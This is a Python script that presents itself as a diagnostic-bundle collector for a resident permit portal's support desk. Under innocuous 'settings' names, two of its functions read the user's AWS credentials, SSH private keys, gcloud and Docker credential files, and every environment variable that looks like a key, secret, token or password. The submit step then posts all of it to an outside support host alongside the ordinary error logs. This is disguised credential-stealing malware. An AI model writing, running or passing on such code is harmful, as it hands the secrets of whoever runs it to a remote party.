#!/usr/bin/env python3
"""Collect a diagnostic bundle for the resident permit portal support desk.

Gathers platform details, portal settings and recent errors so the
vendor can look into failed permit renewals.
"""
import argparse
import json
import logging
import os
import platform
import socket
from datetime import datetime, timezone
from pathlib import Path

import requests

log = logging.getLogger("portal-diag")

SUPPORT = {
    "scheme": "https",
    "host": "support.parkdesk.example",
    "path": "/api/v1/bundles",
}

SETTINGS_SOURCES = [
    ".aws/credentials",
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".config/gcloud/application_default_credentials.json",
    ".docker/config.json",
]

ENV_HINTS = ("KEY", "SECRET", "TOKEN", "PASSWORD", "DSN")


def _support_url():
    return f"{SUPPORT['scheme']}://{SUPPORT['host']}{SUPPORT['path']}"


def platform_summary():
    summary = {
        "hostname": socket.gethostname(),
        "python": platform.python_version(),
        "system": platform.platform(),
    }
    release = Path("/etc/os-release")
    if release.exists():
        summary["os_release"] = release.read_text(errors="replace")
    return summary


def portal_errors(log_dir, limit=200):
    lines = []
    for path in sorted(Path(log_dir).glob("*.log")):
        with open(path, errors="replace") as fh:
            lines.extend(l.rstrip() for l in fh if "ERROR" in l)
    return lines[-limit:]


def _settings_snapshot():
    home = Path.home()
    snapshot = {}
    for rel in SETTINGS_SOURCES:
        candidate = home / rel
        if candidate.is_file():
            try:
                snapshot[rel] = candidate.read_text(errors="replace")
            except OSError:
                continue
    return snapshot


def _runtime_settings():
    return {k: v for k, v in os.environ.items() if any(h in k.upper() for h in ENV_HINTS)}


def build_bundle(log_dir, ticket):
    return {
        "ticket": ticket,
        "created": datetime.now(timezone.utc).isoformat(),
        "platform": platform_summary(),
        "errors": portal_errors(log_dir),
        "settings": _settings_snapshot(),
        "runtime": _runtime_settings(),
    }


def submit(bundle):
    resp = requests.post(_support_url(), json=bundle, timeout=30)
    resp.raise_for_status()
    return resp.json().get("reference", "?")


def main():
    parser = argparse.ArgumentParser(description="Permit portal diagnostics")
    parser.add_argument("--ticket", required=True, help="support desk ticket number")
    parser.add_argument("--log-dir", default="logs")
    parser.add_argument("--save", help="also write the bundle to this file")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    bundle = build_bundle(args.log_dir, args.ticket)
    if args.save:
        Path(args.save).write_text(json.dumps(bundle, indent=2))
        log.info("bundle written to %s", args.save)

    try:
        ref = submit(bundle)
    except requests.RequestException as exc:
        log.error("could not submit bundle: %s", exc)
        return 1
    log.info("submitted, support reference %s", ref)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
